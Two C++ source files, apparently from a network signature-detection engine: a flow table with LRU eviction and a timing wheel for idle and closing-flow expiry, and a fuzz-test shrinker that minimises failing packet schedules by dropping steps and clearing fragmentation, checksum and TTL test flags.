    /// long enough for the final ACK, short enough that churn reclaims in
    /// seconds (conntrack's CLOSE/TIME_WAIT shape).
    std::uint64_t linger_usec = 5ull * 1000 * 1000;
    /// Timing-wheel geometry: slots is rounded up to a power of two. The
    /// wheel spans slots × granularity; deadlines beyond the span park in
    /// their modular slot and are re-queued on inspection (lazy revolutions).
    std::size_t wheel_slots = 256;
    std::uint64_t wheel_granularity_usec = 500ull * 1000;
  };

  /// Called with the key and value of a flow forced out (LRU eviction or
  /// idle expiry) before the slot is reused.
  using EvictFn = std::function<void(const FlowKey&, V&)>;

  explicit FlowTable(Config cfg)
      : max_flows_(cfg.max_flows),
        idle_timeout_usec_(cfg.idle_timeout_usec),
        linger_usec_(cfg.linger_usec),
        granularity_usec_(cfg.wheel_granularity_usec == 0
                              ? 1
                              : cfg.wheel_granularity_usec) {
    if (max_flows_ == 0) throw InvalidArgument("FlowTable: max_flows == 0");
    slab_.reserve(max_flows_);
    bucket_count_ = 1;
    while (bucket_count_ < max_flows_ * 2) bucket_count_ <<= 1;
    buckets_.assign(bucket_count_, kEmpty);
    if (idle_timeout_usec_ != 0) {
      std::size_t slots = 1;
      while (slots < std::max<std::size_t>(cfg.wheel_slots, 2)) slots <<= 1;
      wheel_.assign(slots, kNone);
      wheel_mask_ = slots - 1;
    }
  }

  void set_evict_callback(EvictFn fn) { evict_fn_ = std::move(fn); }

  /// Factory for new values (defaults to value-initialization). Lets callers
  /// stamp configuration into each fresh per-flow record.
  void set_value_factory(std::function<V()> fn) { factory_ = std::move(fn); }

  std::size_t size() const { return live_; }
  std::size_t max_flows() const { return max_flows_; }
  std::uint64_t evictions() const { return evictions_; }
  std::uint64_t expirations() const { return expirations_; }
  std::uint64_t teardowns() const { return teardowns_; }
  bool has_wheel() const { return !wheel_.empty(); }

  /// Total bytes held: slab storage + bucket index + wheel + overhead.
  std::size_t memory_bytes() const {
    return slab_.capacity() * sizeof(Entry) +
           buckets_.capacity() * sizeof(std::uint32_t) +
           wheel_.capacity() * sizeof(std::uint32_t) + sizeof(*this);
  }

  /// Bytes per tracked flow at current occupancy (the E2 metric).
  double bytes_per_flow() const {
    return live_ == 0 ? 0.0
                      : static_cast<double>(memory_bytes()) /
                            static_cast<double>(live_);
  }

  /// Look up without touching LRU order. nullptr if absent.
  V* find(const FlowKey& key) {
    const std::uint32_t idx = find_slot(key);
    return idx == kNone ? nullptr : &slab_[idx].value;
  }
  const V* find(const FlowKey& key) const {
    const std::uint32_t idx = find_slot(key);
    return idx == kNone ? nullptr : &slab_[idx].value;
  }

  /// Hint that a lookup for `key` is imminent: pulls the hash-bucket line
  /// toward the cache (the slab entry is only known after the probe).
  /// Issue for a whole batch of packets before probing any of them.
  void prefetch(const FlowKey& key) const {
#if defined(__GNUC__) || defined(__clang__)
    if (!buckets_.empty()) {
      __builtin_prefetch(&buckets_[bucket_of(key.hash())], 0, 3);
    }
#else
    (void)key;
#endif
  }

  /// Find or default-construct the flow, refreshing its LRU position and
  /// last-seen time. Evicts the least-recently-used flow when full.
  /// `created`, if non-null, reports whether a new record was made.
  V& get_or_create(const FlowKey& key, std::uint64_t now_usec,
                   bool* created = nullptr) {
    std::uint32_t idx = find_slot(key);
    if (idx != kNone) {
      touch(idx, now_usec);
      if (created) *created = false;
      return slab_[idx].value;
    }
    if (created) *created = true;
    if (live_ >= max_flows_) evict_lru();
    idx = allocate(key, now_usec);
    insert_index(key.hash(), idx);
    lru_push_front(idx);
    ++live_;
    return slab_[idx].value;
  }

  /// Remove a flow if present. Returns true when something was erased.
  bool erase(const FlowKey& key) {
    const std::uint32_t idx = find_slot(key);
    if (idx == kNone) return false;
    remove_entry(idx);
    return true;
  }

  /// Mark a flow closing: its wheel deadline collapses from idle_timeout to
  /// linger, and later touches keep the short deadline (a closing flow does
  /// not earn a fresh 60 s by retransmitting its FIN). No-op when the wheel
  /// is disabled or the flow is unknown. Returns true when a live flow was
  /// marked.
  bool mark_closing(const FlowKey& key, std::uint64_t now_usec) {
    if (wheel_.empty()) return false;
    const std::uint32_t idx = find_slot(key);
    if (idx == kNone) return false;
    Entry& e = slab_[idx];
    if (!e.closing) {
      e.closing = true;
      ++teardowns_;
    }
    wheel_schedule(idx, now_usec + linger_usec_);
    return true;
  }

  bool closing(const FlowKey& key) const {
    const std::uint32_t idx = find_slot(key);
    return idx != kNone && slab_[idx].closing;
  }

  /// Advance the timing wheel to `now_usec`, expiring every flow whose
  /// deadline has passed (idle flows after idle_timeout, closing flows
  /// after linger). Cost is proportional to the slots crossed since the
  /// last call plus the flows actually expired — never to table occupancy.
  /// Returns the count expired. No-op (0) when the wheel is disabled.
  std::size_t expire_due(std::uint64_t now_usec) {
    if (wheel_.empty()) return 0;
    const std::uint64_t tick_now = now_usec / granularity_usec_;
    std::uint64_t walk;
    if (!wheel_started_) {
      // First call: entries may already be parked in any slot (scheduled
      // before the sweeper ever ran), so do one full revolution.
      wheel_started_ = true;
      walk = wheel_mask_ + 1;
    } else if (tick_now < last_tick_) {
      return 0;  // time went backwards: hold
    } else {
      // Crossing more slots than the wheel has walks every slot once.
      walk = std::min<std::uint64_t>(tick_now - last_tick_, wheel_mask_ + 1);
    }
    std::size_t n = 0;
    for (std::uint64_t t = 0; t < walk; ++t) {
      n += drain_wheel_slot((last_tick_ + 1 + t) & wheel_mask_, now_usec);
    }
    // The current slot may hold due entries scheduled within this tick.
    n += drain_wheel_slot(tick_now & wheel_mask_, now_usec);
    last_tick_ = tick_now;
    return n;
  }

  /// Expire flows idle for at least `idle_usec`. Returns the count expired.
  std::size_t expire_idle(std::uint64_t now_usec, std::uint64_t idle_usec) {
    std::size_t n = 0;
    while (lru_tail_ != kNone) {
      Entry& e = slab_[lru_tail_];
      if (now_usec - e.last_seen < idle_usec) break;
      ++expirations_;
      if (evict_fn_) evict_fn_(e.key, e.value);
      remove_entry(lru_tail_);
      ++n;
    }
    return n;
  }

  /// Visit all live flows (unspecified order).
  template <typename Fn>
  void for_each(Fn&& fn) const {
    for (std::uint32_t i = lru_head_; i != kNone; i = slab_[i].lru_next) {
      fn(slab_[i].key, slab_[i].value);
    }
  }
  template <typename Fn>
  void for_each(Fn&& fn) {
    for (std::uint32_t i = lru_head_; i != kNone; i = slab_[i].lru_next) {
      fn(slab_[i].key, slab_[i].value);
    }
  }

 private:
  struct Entry {
    FlowKey key;
    V value{};
    std::uint64_t last_seen = 0;
    std::uint64_t deadline = 0;       // wheel expiry time (usec)
    std::uint32_t lru_prev = kNone;
    std::uint32_t lru_next = kNone;
    std::uint32_t wheel_prev = kNone;
    std::uint32_t wheel_next = kNone;
    std::uint32_t wheel_slot = kNone;  // slot index while linked
    std::uint32_t free_next = kNone;   // freelist link when dead
    bool live = false;
    bool closing = false;  // FIN/FIN or RST observed: linger deadline
  };

  static constexpr std::uint32_t kNone = std::numeric_limits<std::uint32_t>::max();
  static constexpr std::uint32_t kEmpty = kNone;
  static constexpr std::uint32_t kTombstone = kNone - 1;

  // ---- index -------------------------------------------------------------

  std::size_t bucket_of(std::uint64_t hash) const {
    return static_cast<std::size_t>(hash) & (bucket_count_ - 1);
  }

  std::uint32_t find_slot(const FlowKey& key) const {
    std::size_t b = bucket_of(key.hash());
    for (std::size_t probes = 0; probes < bucket_count_; ++probes) {
      const std::uint32_t v = buckets_[b];
      if (v == kEmpty) return kNone;
      if (v != kTombstone && slab_[v].key == key) return v;
      b = (b + 1) & (bucket_count_ - 1);
    }
    return kNone;
  }

  void insert_index(std::uint64_t hash, std::uint32_t idx) {
    std::size_t b = bucket_of(hash);
    while (buckets_[b] != kEmpty && buckets_[b] != kTombstone) {
      b = (b + 1) & (bucket_count_ - 1);
    }
    if (buckets_[b] == kTombstone) --tombstones_;
    buckets_[b] = idx;
  }

  void erase_index(const FlowKey& key, std::uint32_t idx) {
    std::size_t b = bucket_of(key.hash());
    for (std::size_t probes = 0; probes < bucket_count_; ++probes) {
      if (buckets_[b] == idx) {
        buckets_[b] = kTombstone;
        ++tombstones_;
        break;
      }
      b = (b + 1) & (bucket_count_ - 1);
    }
    // Rebuild only after the dying entry is both tombstoned and marked
    // not-live, so it cannot be resurrected into the fresh index.
    if (tombstones_ > bucket_count_ / 4) rebuild_index();
  }

  void rebuild_index() {
    buckets_.assign(bucket_count_, kEmpty);
    tombstones_ = 0;
    for (std::uint32_t i = 0; i < slab_.size(); ++i) {
      if (slab_[i].live) insert_index(slab_[i].key.hash(), i);
    }
  }

  // ---- slab --------------------------------------------------------------

  std::uint32_t allocate(const FlowKey& key, std::uint64_t now_usec) {
    std::uint32_t idx;
    if (free_head_ != kNone) {
      idx = free_head_;
      free_head_ = slab_[idx].free_next;
    } else {
      idx = static_cast<std::uint32_t>(slab_.size());
      slab_.emplace_back();
    }
    Entry& e = slab_[idx];
    e.key = key;
    e.value = factory_ ? factory_() : V{};
    e.last_seen = now_usec;
    e.lru_prev = e.lru_next = kNone;
    e.wheel_prev = e.wheel_next = kNone;
    e.wheel_slot = kNone;
    e.live = true;
    e.closing = false;
    if (!wheel_.empty()) wheel_schedule(idx, now_usec + idle_timeout_usec_);
    return idx;
  }

  void remove_entry(std::uint32_t idx) {
    Entry& e = slab_[idx];
    e.live = false;  // must precede erase_index: a rebuild must skip us
    erase_index(e.key, idx);
    lru_unlink(idx);
    wheel_unlink(idx);
    e.closing = false;
    e.value = V{};  // release any heap the value holds
    e.free_next = free_head_;
    free_head_ = idx;
    --live_;
  }

  void evict_lru() {
    const std::uint32_t victim = lru_tail_;
    ++evictions_;
    if (evict_fn_) evict_fn_(slab_[victim].key, slab_[victim].value);
    remove_entry(victim);
  }

  // ---- LRU list (head = most recent) --------------------------------------

  void lru_push_front(std::uint32_t idx) {
    Entry& e = slab_[idx];
    e.lru_prev = kNone;
    e.lru_next = lru_head_;
    if (lru_head_ != kNone) slab_[lru_head_].lru_prev = idx;
    lru_head_ = idx;
    if (lru_tail_ == kNone) lru_tail_ = idx;
  }

  void lru_unlink(std::uint32_t idx) {
    Entry& e = slab_[idx];
    if (e.lru_prev != kNone) {
      slab_[e.lru_prev].lru_next = e.lru_next;
    } else {
      lru_head_ = e.lru_next;
    }
    if (e.lru_next != kNone) {
      slab_[e.lru_next].lru_prev = e.lru_prev;
    } else {
      lru_tail_ = e.lru_prev;
    }
    e.lru_prev = e.lru_next = kNone;
  }

  void touch(std::uint32_t idx, std::uint64_t now_usec) {
    Entry& e = slab_[idx];
    e.last_seen = now_usec;
    if (!wheel_.empty()) {
      // A closing flow keeps its short linger horizon: traffic on a closed
      // connection must not re-earn the idle timeout.
      wheel_schedule(idx, now_usec +
                              (e.closing ? linger_usec_ : idle_timeout_usec_));
    }
    if (lru_head_ == idx) return;
    lru_unlink(idx);
    lru_push_front(idx);
  }

  // ---- timing wheel (head-linked per-slot lists, lazy revolutions) --------

  std::size_t slot_of(std::uint64_t deadline_usec) const {
    return static_cast<std::size_t>(deadline_usec / granularity_usec_) &
           wheel_mask_;
  }

  void wheel_schedule(std::uint32_t idx, std::uint64_t deadline_usec) {
    Entry& e = slab_[idx];
    const std::size_t slot = slot_of(deadline_usec);
    if (e.wheel_slot == slot) {  // hot case: same slot, just move the time
      e.deadline = deadline_usec;
      return;
    }
    wheel_unlink(idx);
    e.deadline = deadline_usec;
    e.wheel_slot = static_cast<std::uint32_t>(slot);
    e.wheel_prev = kNone;
    e.wheel_next = wheel_[slot];
    if (wheel_[slot] != kNone) slab_[wheel_[slot]].wheel_prev = idx;
    wheel_[slot] = idx;
  }

  void wheel_unlink(std::uint32_t idx) {
    Entry& e = slab_[idx];
    if (e.wheel_slot == kNone) return;
    if (e.wheel_prev != kNone) {
      slab_[e.wheel_prev].wheel_next = e.wheel_next;
    } else {
      wheel_[e.wheel_slot] = e.wheel_next;
    }
    if (e.wheel_next != kNone) slab_[e.wheel_next].wheel_prev = e.wheel_prev;
    e.wheel_prev = e.wheel_next = kNone;
    e.wheel_slot = kNone;
  }

  /// Expire every due entry in one slot; entries parked for a future wheel
  /// revolution are left linked (their slot is unchanged). Returns expired
  /// count.
  std::size_t drain_wheel_slot(std::size_t slot, std::uint64_t now_usec) {
    std::size_t n = 0;
    std::uint32_t i = wheel_[slot];
    while (i != kNone) {
      const std::uint32_t next = slab_[i].wheel_next;
      if (slab_[i].deadline <= now_usec) {
        ++expirations_;
        if (evict_fn_) evict_fn_(slab_[i].key, slab_[i].value);
        remove_entry(i);
        ++n;
      }
      i = next;
    }
    return n;
  }

  std::size_t max_flows_;
  std::uint64_t idle_timeout_usec_;
  std::uint64_t linger_usec_;
  std::uint64_t granularity_usec_;
  std::size_t bucket_count_ = 0;
  std::size_t tombstones_ = 0;
  std::size_t live_ = 0;
  std::uint64_t evictions_ = 0;
  std::uint64_t expirations_ = 0;
  std::uint64_t teardowns_ = 0;
  std::uint64_t last_tick_ = 0;
  bool wheel_started_ = false;
  std::size_t wheel_mask_ = 0;
  std::uint32_t lru_head_ = kNone;
  std::uint32_t lru_tail_ = kNone;
  std::uint32_t free_head_ = kNone;
  std::vector<Entry> slab_;
  std::vector<std::uint32_t> buckets_;
  std::vector<std::uint32_t> wheel_;  // per-slot list heads (empty = no wheel)
  EvictFn evict_fn_;
  std::function<V()> factory_;
};

}  // namespace sdt::flow
