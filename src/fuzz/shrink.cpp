#include "fuzz/shrink.hpp"

#include <algorithm>

namespace sdt::fuzz {

namespace {

class Shrinker {
 public:
  Shrinker(Schedule start, const std::function<bool(const Schedule&)>& pred,
           std::size_t budget)
      : best_(std::move(start)), pred_(pred), budget_(budget) {}

  ShrinkResult run() {
    bool progress = true;
    while (progress && evals_ < budget_) {
      progress = false;
      progress |= drop_step_ranges();
      progress |= drop_framing();
      progress |= clear_hostile_flags();
      progress |= merge_adjacent();
      progress |= halve_step_payloads();
      progress |= trim_stream();
      ++rounds_;
    }
    return {std::move(best_), evals_, rounds_};
  }

 private:
  /// Accept candidate iff it still fails; returns acceptance.
  bool accept(Schedule&& cand) {
    if (evals_ >= budget_) return false;
    ++evals_;
    if (!pred_(cand)) return false;
    best_ = std::move(cand);
    return true;
  }

  bool drop_step_ranges() {
    bool any = false;
    std::size_t chunk = std::max<std::size_t>(1, best_.steps.size() / 2);
    while (chunk >= 1) {
      bool removed = true;
      while (removed && evals_ < budget_) {
        removed = false;
        for (std::size_t i = 0; i < best_.steps.size(); i += chunk) {
          Schedule cand = best_;
          const std::size_t n = std::min(chunk, cand.steps.size() - i);
          cand.steps.erase(
              cand.steps.begin() + static_cast<std::ptrdiff_t>(i),
              cand.steps.begin() + static_cast<std::ptrdiff_t>(i + n));
          if (accept(std::move(cand))) {
            any = removed = true;
            break;  // indices shifted; rescan at this chunk size
          }
        }
      }
      if (chunk == 1) break;
      chunk /= 2;
    }
    return any;
  }

  bool drop_framing() {
    bool any = false;
    if (best_.close_flow) {
      Schedule cand = best_;
      cand.close_flow = false;
      any |= accept(std::move(cand));
    }
    if (best_.handshake) {
      Schedule cand = best_;
      cand.handshake = false;
      any |= accept(std::move(cand));
    }
    return any;
  }

  bool clear_hostile_flags() {
    bool any = false;
    for (std::size_t i = 0; i < best_.steps.size() && evals_ < budget_; ++i) {
      const FuzzStep& st = best_.steps[i];
      if (st.frag_payload == 0 && !st.corrupt_checksum && !st.urg &&
          st.ttl == 64 && !st.fin) {
        continue;
      }
      Schedule cand = best_;
      FuzzStep& c = cand.steps[i];
      c.frag_payload = 0;
      c.frag_reverse = false;
      c.corrupt_checksum = false;
      c.urg = false;
      c.urgent_pointer = 0;
      c.ttl = 64;
      c.fin = false;
      any |= accept(std::move(cand));
    }
    return any;
  }

  bool merge_adjacent() {
    bool any = false;
    bool merged = true;
    while (merged && evals_ < budget_) {
      merged = false;
      for (std::size_t i = 0; i + 1 < best_.steps.size(); ++i) {
        const FuzzStep& a = best_.steps[i];
        const FuzzStep& b = best_.steps[i + 1];
        const bool plain = !a.fin && !a.urg && !a.corrupt_checksum &&
                           a.frag_payload == 0 && !b.urg &&
                           !b.corrupt_checksum && b.frag_payload == 0 &&
                           a.ttl == b.ttl;
        if (!plain || a.rel_off + a.data.size() != b.rel_off) continue;
        Schedule cand = best_;
        FuzzStep& m = cand.steps[i];
        m.data.insert(m.data.end(), b.data.begin(), b.data.end());
        m.fin = b.fin;
        cand.steps.erase(cand.steps.begin() +
                         static_cast<std::ptrdiff_t>(i + 1));
        if (accept(std::move(cand))) {
          any = merged = true;
          break;
        }
      }
    }
    return any;
  }

  bool halve_step_payloads() {
    bool any = false;
    for (std::size_t i = 0; i < best_.steps.size() && evals_ < budget_; ++i) {
      if (best_.steps[i].data.size() < 2) continue;
      Schedule cand = best_;
      FuzzStep& c = cand.steps[i];
      c.data.resize(c.data.size() / 2);
      any |= accept(std::move(cand));
    }
    return any;
  }

  /// Cut stream bytes outside the signature window, rewriting offsets.
  bool trim_stream() {
    bool any = false;
    // Head: remove [0, cut).
    for (std::size_t cut = best_.sig_lo; cut > 0 && evals_ < budget_;
         cut /= 2) {
      if (cut > best_.sig_lo) continue;
      Schedule cand = best_;
      trim_head(cand, cut);
      if (accept(std::move(cand))) {
        any = true;
      }
      if (cut == 1) break;
    }
    // Tail: remove [sig_hi + keep, end).
    const std::size_t tail =
        best_.stream.size() - std::min<std::size_t>(
                                  best_.attack ? best_.sig_hi : 0,
                                  best_.stream.size());
    for (std::size_t cut = tail; cut > 0 && evals_ < budget_; cut /= 2) {
      Schedule cand = best_;
      trim_tail(cand, cand.stream.size() - cut);
      if (accept(std::move(cand))) {
        any = true;
      }
      if (cut == 1) break;
    }
    return any;
  }

  static void trim_head(Schedule& s, std::size_t cut) {
    s.stream.erase(s.stream.begin(),
                   s.stream.begin() + static_cast<std::ptrdiff_t>(cut));
    s.sig_lo -= std::min<std::uint64_t>(s.sig_lo, cut);
    s.sig_hi -= std::min<std::uint64_t>(s.sig_hi, cut);
    std::vector<FuzzStep> kept;
    for (FuzzStep& st : s.steps) {
      if (st.rel_off >= cut) {
        st.rel_off -= cut;
        kept.push_back(std::move(st));
        continue;
      }
      const std::size_t overlap = static_cast<std::size_t>(cut - st.rel_off);
      if (st.data.size() > overlap) {
        st.data.erase(st.data.begin(),
                      st.data.begin() + static_cast<std::ptrdiff_t>(overlap));
        st.rel_off = 0;
        kept.push_back(std::move(st));
      } else if (st.fin) {
        st.data.clear();
        st.rel_off = 0;
        kept.push_back(std::move(st));
      }
      // else: the step lies entirely in the cut region — drop it.
    }
    s.steps = std::move(kept);
  }

  static void trim_tail(Schedule& s, std::size_t keep) {
    if (keep >= s.stream.size()) return;
    s.stream.resize(keep);
    std::vector<FuzzStep> kept;
    for (FuzzStep& st : s.steps) {
      if (st.rel_off >= keep) {
        if (st.fin) {
          st.rel_off = keep;
          st.data.clear();
          kept.push_back(std::move(st));
        }
        continue;
      }
      if (st.rel_off + st.data.size() > keep) {
        st.data.resize(static_cast<std::size_t>(keep - st.rel_off));
      }
      kept.push_back(std::move(st));
    }
    s.steps = std::move(kept);
  }

  Schedule best_;
  const std::function<bool(const Schedule&)>& pred_;
  std::size_t budget_;
  std::size_t evals_ = 0;
  std::size_t rounds_ = 0;
};

}  // namespace

ShrinkResult shrink(const Schedule& start,
                    const std::function<bool(const Schedule&)>& still_fails,
                    std::size_t max_evaluations) {
  return Shrinker(start, still_fails, max_evaluations).run();
}

}  // namespace sdt::fuzz
